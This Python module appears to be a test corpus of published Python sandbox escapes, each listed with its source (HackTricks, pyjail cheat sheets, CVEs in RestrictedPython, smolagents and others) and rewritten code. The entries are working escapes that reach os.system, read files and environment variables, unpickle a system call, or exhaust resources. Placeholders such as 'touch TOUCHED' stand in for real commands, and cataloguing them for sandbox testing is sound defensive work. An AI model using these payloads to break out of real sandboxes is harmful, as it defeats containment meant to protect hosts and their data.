"""Published ways out of Python sandboxes: where each was told, and its code.

The code is written anew after what was told; in each, SECRET stands for the path of a
file outside, TOUCHED for one that it would make there, and PORT for a listening port.
"""

from __future__ import annotations

from typing import NamedTuple


class Escape(NamedTuple):
    """Where it was published, and the code."""

    source: str
    code: str


ESCAPES = {
    "the subclasses of object": Escape(
        "Ned Batchelder, Eval really is dangerous, 2012",
        "[c for c in ().__class__.__bases__[0].__subclasses__()"
        " if c.__name__ == 'Quitter'][0](0)()",
    ),
    "a code object made by hand": Escape(
        "Ned Batchelder, Eval really is dangerous, 2012",
        "def f(): pass\nf.__code__ = f.__code__.replace(co_code=b'BOOM')\nf()",
    ),
    "popen through a subclass": Escape(
        "HackTricks, Bypass Python sandboxes",
        "[x.__init__.__globals__ for x in ''.__class__.__base__.__subclasses__()"
        " if 'wrapper' not in str(x.__init__) and 'sys' in x.__init__.__globals__]"
        "[0]['sys'].modules['os'].popen('touch TOUCHED').read()",
    ),
    "the pager of license": Escape(
        "HackTricks, Bypass Python sandboxes",
        "license._Printer__filenames = ['SECRET']\nlicense()",
    ),
    "decorators instead of calls": Escape(
        "HackTricks, Bypass Python sandboxes",
        "@exec\n@input\nclass X:\n    pass",
    ),
    "a class item as a call": Escape(
        "HackTricks, Bypass Python sandboxes",
        "class A:\n    pass\nA.__class_getitem__ = __import__('os').system\n"
        "A['touch TOUCHED']",
    ),
    "builtins of print": Escape(
        "Shirajuki, Pyjail Cheat Sheet, 2024",
        "print.__self__.__import__('os').system('touch TOUCHED')",
    ),
    "the globals of a function": Escape(
        "Shirajuki, Pyjail Cheat Sheet, 2024",
        "(lambda: 0).__globals__['__builtins__'].open('SECRET').read()",
    ),
    "the site module's help": Escape(
        "Shirajuki, Pyjail Cheat Sheet, 2024",
        "help.__repr__.__globals__['sys'].modules['os'].environ",
    ),
    "a file unpacked into an error": Escape(
        "Shirajuki, Pyjail Cheat Sheet, 2024",
        "raise Exception(*open('SECRET'))",
    ),
    "the debugger": Escape("Shirajuki, Pyjail Cheat Sheet, 2024", "breakpoint()"),
    "letters that Python makes plain": Escape(
        "jailctf/pyjail-collection, pygolf: NFKC normalization",
        "\uff4f\uff50\uff45\uff4e('SECRET').read()",
    ),
    "the loader of builtin modules": Escape(
        "jailctf/pyjail-collection, prison",
        "().__class__.__mro__[1].__subclasses__()[104].load_module('os')"
        ".system('touch TOUCHED')",
    ),
    "the frame of a generator": Escape(
        "danthedeckie/simpleeval issue 138, 2024",
        "(x for x in ()).gi_frame.f_globals['__builtins__'].exec('1/0')",
    ),
    "a generator's callers": Escape(
        "RestrictedPython, CVE-2023-37271",
        "def g():\n    for f in [h.gi_frame.f_back.f_back]:\n        yield f\n"
        "h = g()\n[*h][0].f_globals['open']('SECRET').read()",
    ),
    "a coroutine's frame": Escape(
        "danthedeckie/simpleeval issue 138, 2024",
        "async def f(): pass\nf().cr_frame.f_globals['__builtins__']",
    ),
    "the pieces of a bound method": Escape(
        "lmfit/asteval issue 86, 2021",
        "print.__reduce__()[0](print, '__globals__')",
    ),
    "a field path in format": Escape(
        "RestrictedPython, CVE-2023-41039",
        "'{0.__class__.__init__.__globals__[os].environ}'.format(print)",
    ),
    "the same in format_map": Escape(
        "huggingface/smolagents pull request 2271",
        "'{a.__class__.__bases__[0].__subclasses__}'.format_map({'a': 1})",
    ),
    "a library function in format": Escape(
        "Skyvern-AI/skyvern pull request 7039",
        "import json\n'{0.__globals__[codecs].open.__globals__[sys].modules[os]"
        ".environ}'.format(json.dumps)",
    ),
    "string.Formatter": Escape(
        "RestrictedPython, CVE-2024-47532",
        "import string\nstring.Formatter().get_field('a.__class__', (), {'a': 1})",
    ),
    "a hook shadowed by a parameter": Escape(
        "RestrictedPython, CVE-2026-55830",
        "def f(_getattr_, /):\n    return ().__class__\nf(getattr)",
    ),
    "an except* clause": Escape(
        "RestrictedPython, CVE-2025-22153",
        "try:\n    raise ExceptionGroup('', [ValueError()])\n"
        "except* ValueError as e:\n    e.__traceback__.tb_frame.f_globals",
    ),
    "the object of an AttributeError": Escape(
        "lmfit/asteval, GHSA-3wwr-3g9f-9gc7",
        "try:\n    print.nothing\nexcept AttributeError as e:\n"
        "    e.obj.__self__.open('SECRET').read()",
    ),
    "the frame of a traceback": Escape(
        "Shirajuki, Pyjail Cheat Sheet, 2024",
        "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n"
        "    e.__traceback__.tb_frame.f_back.f_globals",
    ),
    "a module that an allowed one imports": Escape(
        "huggingface/smolagents, CVE-2025-5120",
        "import random\nrandom._os.system('touch TOUCHED')",
    ),
    "the same by another module": Escape(
        "huggingface/smolagents, CVE-2025-9959",
        "import asyncio\nasyncio.base_events.subprocess.run(['touch', 'TOUCHED'])",
    ),
    "names that are put together": Escape(
        "crewAIInc/crewAI pull request 4643",
        "type.__dict__[chr(95) * 2 + 'subclasses' + chr(95) * 2](object)",
    ),
    "getattr by a computed name": Escape(
        "danthedeckie/simpleeval, Security",
        "getattr(getattr([], '__cl' + 'ass__'), '__ba' + 'se__')",
    ),
    "eval within": Escape(
        "Babar Zafar, Safe eval critique, python-list, 2006",
        'eval("().__class__.mro()[1].__subclasses__()")',
    ),
    "exec with builtins": Escape(
        "Jessica McKellar, Building and breaking a Python sandbox, PyCon 2014",
        "exec(\"__builtins__['open']('TOUCHED', 'w').write('kaboom')\")",
    ),
    "a pickle": Escape(
        "jailctf/pyjail-collection, pickle-madness",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'touch TOUCHED'\\ntR.\")",
    ),
    "a C library": Escape(
        "Skyvern-AI/skyvern pull request 7039",
        "import ctypes\nctypes.CDLL(None).system(b'touch TOUCHED')",
    ),
    "the garbage collector": Escape(
        "Shirajuki, Pyjail Cheat Sheet, 2024",
        "import gc\n[o for o in gc.get_objects() if type(o) is dict and 'open' in o]",
    ),
    "modules by sys": Escape(
        "HackTricks, Bypass Python sandboxes",
        "import sys\nsys.modules['os'].system('touch TOUCHED')",
    ),
    "a socket": Escape(
        "lmfit/asteval issue 86, 2021",
        "import socket\nsocket.create_connection(('127.0.0.1', PORT))",
    ),
    "a path": Escape(
        "huggingface/smolagents, Secure code execution",
        "from pathlib import Path\nPath('SECRET').read_text()",
    ),
    "a path written": Escape(
        "huggingface/smolagents, Secure code execution",
        "from pathlib import Path\nPath('TOUCHED').write_text('x')",
    ),
    "a power of powers": Escape(
        "danthedeckie/simpleeval, Security", "9 ** 9 ** 9 ** 9"
    ),
    "a long text": Escape("danthedeckie/simpleeval, Security", "'x' * 10 ** 12"),
    "a wide format": Escape("danthedeckie/simpleeval, Security", "'%09999999999d' % 1"),
    "a loop without end": Escape(
        "huggingface/smolagents, Secure code execution",
        "while True:\n    try:\n        while True: pass\n"
        "    except BaseException: pass",
    ),
    "a recursion without end": Escape(
        "Python's documentation, eval", "def f():\n    return f()\nf()"
    ),
}
